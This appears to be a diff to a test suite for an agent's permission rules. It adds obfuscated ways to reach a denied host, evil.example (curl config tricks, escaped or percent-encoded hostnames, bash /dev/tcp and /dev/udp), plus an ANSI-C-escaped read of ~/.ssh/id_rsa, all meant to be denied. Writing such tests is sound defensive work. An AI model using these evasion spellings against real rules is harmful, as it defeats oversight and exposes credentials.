@@ -143,6 +143,12 @@ CURL_SPELLINGS = [
     ("curl's {a,b} glob", "curl -sS 'http://evil.exa{mple,x}/'"),
     ("curl --connect-to", "curl -sS --connect-to ::evil.example: https://docs.python.org/3/"),
     ("curl through a proxy", "curl -sS -x evil.example:8080 https://docs.python.org/3/"),
+    ("curl's config on its input", "curl -sS -K- <<< 'url = \"evil.example\"'"),
+    ("curl's config from a process", "curl -sS -K <(echo url=evil.example)"),
+    ("curl, an ANSI-C string", "curl -sS $'\\x65vil.example'"),
+    ("curl, a percent-encoded host", "curl -sS evil%2eexample"),
+    ("bash's /dev/tcp", "cat < /dev/tcp/evil.example/80"),
+    ("bash's /dev/udp", "echo x > /dev/udp/evil.example/53"),
 ]
 
 URLS = [
@@ -287,6 +293,7 @@ PATHS = [
     # a denied directory, by any field, spelling or command
     denied(Case("read a key", "read", {"file_path": "~/.ssh/id_rsa"})),
     denied(run("read a key, its path split by a line continuation", "cat ~/.s\\\nsh/id_rsa")),
+    denied(run("read a key, its path in an ANSI-C string", "cat ~/$'.s\\163h'/id_rsa")),
     denied(Case("read a key by ..", "read", {"file_path": "../../.ssh/id_rsa"})),
     denied(Case("through a symlink", "read", {"file_path": "keys/id_rsa"})),
     denied(
@@ -695,4 +702,8 @@ def test_curl_contacts_the_denied_host_for_each_spelling_the_rules_deny(name, co
          "bash", "-c", command],
         capture_output=True, text=True, timeout=60, check=False,
     )  # fmt: skip
-    assert re.search(r"Could not resolve (host|proxy): evil\.example\b", out.stderr), out.stderr
+    # (bash names the host of a /dev/tcp path it could not resolve)
+    assert re.search(
+        r"Could not resolve (host|proxy): evil\.example\b|evil\.example: Temporary failure",
+        out.stderr,
+    ), out.stderr
